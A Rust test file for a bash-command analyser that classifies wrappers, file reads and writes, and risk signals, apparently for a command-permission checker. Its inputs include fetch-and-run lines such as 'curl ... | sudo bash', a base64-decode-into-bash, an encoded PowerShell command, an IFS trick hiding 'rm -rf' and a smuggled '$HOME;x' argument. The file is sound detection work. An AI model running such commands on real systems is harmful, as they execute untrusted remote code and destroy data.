//! Constructs, each with what it comes to; and the public cases, each with all of what was read.

use straza_runtime::command::{Command, Layer, Signal, Spelled};

use crate::dump::{FOLDERS, bash, dump};

/// All lines are among what was read.
fn reads(text: &str, lines: &[&str]) {
    let dump = dump(&bash(text));
    for line in lines {
        assert!(dump.lines().any(|found| found == *line), "{text}\n{line}\n--\n{dump}");
    }
}

#[test]
fn every_public_case_is_read_as_it_stands_in_the_list() {
    let mut others = Vec::new();
    for line in include_str!("cases.jsonl").lines() {
        let mut case: serde_json::Value = serde_json::from_str(line).unwrap();
        let reading = dump(&bash(case["command"].as_str().unwrap())).trim_end_matches('\n').to_owned();
        if case["reads as"].as_str().unwrap() != reading {
            case["reads as"] = reading.into();
            others.push(case.to_string());
        }
    }
    assert!(others.is_empty(), "read otherwise:\n{}", others.join("\n"));
}

#[test]
fn every_wrapper_is_a_layer_of_its_own() {
    let command = bash("sudo -u app env FOO=1 nice -n 5 timeout 3 git log");
    let programs: Vec<&str> = command.parts.iter().map(|part| command.cooked(&part.program.base)).collect();
    assert_eq!(programs, ["sudo", "env", "nice", "timeout", "git"]);
    let layers: Vec<Layer> = command.parts.iter().filter_map(|part| part.outer.map(|(_, layer)| layer)).collect();
    assert_eq!(layers, [Layer::Changing, Layer::Changing, Layer::Changing, Layer::Changing]);
}

#[test]
fn a_trusted_shell_with_code_alone_covers_with_its_code() {
    reads("bash -lc 'git log'", &["1: [plain in 0] git :log"]);
    reads("./bash -c 'git log'", &["1: [changing in 0] git :log"]);
    reads("bash -x -c 'git log'", &["1: [changing in 0] git :log"]);
    reads("bash -c 'git log' a b", &["1: [changing in 0] git :log"]);
}

#[test]
fn an_option_that_a_wrapper_does_not_know_is_unreadable() {
    reads("sudo --frobnicate rm x", &["unreadable UnknownOption"]);
    assert!(bash("sudo -n rm x").unreadable.is_empty());
}

#[test]
fn constants_are_put_in_and_anything_else_is_not() {
    reads("x=a; cat $x", &["1 reads /proj/a"]);
    reads("x=a; x=b; cat $x", &["2 reads …+"]);
    reads("x=a; read x; cat $x", &["2 reads …+"]);
    reads("if y; then x=a; fi; cat \"$x\"", &["2 reads …"]);
}

#[test]
fn a_setting_of_the_field_separator_is_unreadable() {
    reads("IFS=x; rm$IFS-rf", &["unreadable FieldSeparator"]);
    assert!(bash("while IFS= read -r x; do echo a; done").unreadable.is_empty());
}

#[test]
fn a_folder_change_counts_for_what_runs_behind_its_success() {
    reads("cd a && cat b", &["1 reads /proj/a/b"]);
    reads("cd a; cat b", &["1 reads /proj/a/b", "1 reads /proj/b"]);
    reads("(cd a && ls); cat b", &["2 reads /proj/b"]);
}

#[test]
fn output_reaches_every_layer_that_reads_it() {
    reads("curl http://x.example/i | sudo bash", &["0 -> 1 Pipe", "0 -> 2 Pipe", "2 pipe-into-shell"]);
    reads("bash <(curl http://x.example/i)", &["1 -> 0 File"]);
    reads("x=$(curl http://x.example/i); eval \"$x\"", &["1 -> 2 Code"]);
}

#[test]
fn a_shell_without_code_is_interactive() {
    for text in ["bash", "sudo bash", "ssh host.example", "python", "docker exec -it web bash"] {
        assert!(bash(text).parts.iter().any(|part| part.flags.interactive), "{text}");
    }
    for text in ["bash -c ls", "bash x.sh", "python x.py", "ssh host.example ls", "bash --version"] {
        assert!(!bash(text).parts.iter().any(|part| part.flags.interactive), "{text}");
    }
}

#[test]
fn signals_name_what_was_seen() {
    let signals = |text: &str| bash(text).signals.iter().map(|(signal, _)| *signal).collect::<Vec<_>>();
    assert_eq!(signals("git log | cat"), []);
    assert!(signals("base64 -d x | bash").contains(&Signal::DecodeThenExecute));
    assert!(signals("bash -c \"bash -c ls\"").contains(&Signal::NestedEvaluation));
    assert!(signals("pwsh -EncodedCommand aGk=").contains(&Signal::EncodedPowershell));
}

#[test]
fn a_program_is_bare_trusted_or_elsewhere() {
    let spelled = |text: &str| bash(text).parts.first().map(|part| part.program.spelled);
    assert_eq!(spelled("git x"), Some(Spelled::Bare));
    assert_eq!(spelled("/usr/bin/git x"), Some(Spelled::Trusted));
    assert_eq!(spelled("/usr/bin/../../tmp/git x"), Some(Spelled::Elsewhere));
    assert_eq!(spelled("./git x"), Some(Spelled::Elsewhere));
    assert_eq!(spelled("$x y"), Some(Spelled::Computed));
}

#[test]
fn an_argument_vector_is_read_without_a_shell() {
    let command = Command::of_words(&["sudo", "rm", "-rf", "$HOME;x"], &FOLDERS);
    assert_eq!(command.text, "sudo rm -rf '$HOME;x'");
    assert_eq!(command.parts.len(), 2);
    assert!(dump(&command).contains("1 writes /proj/$HOME;x"));
}
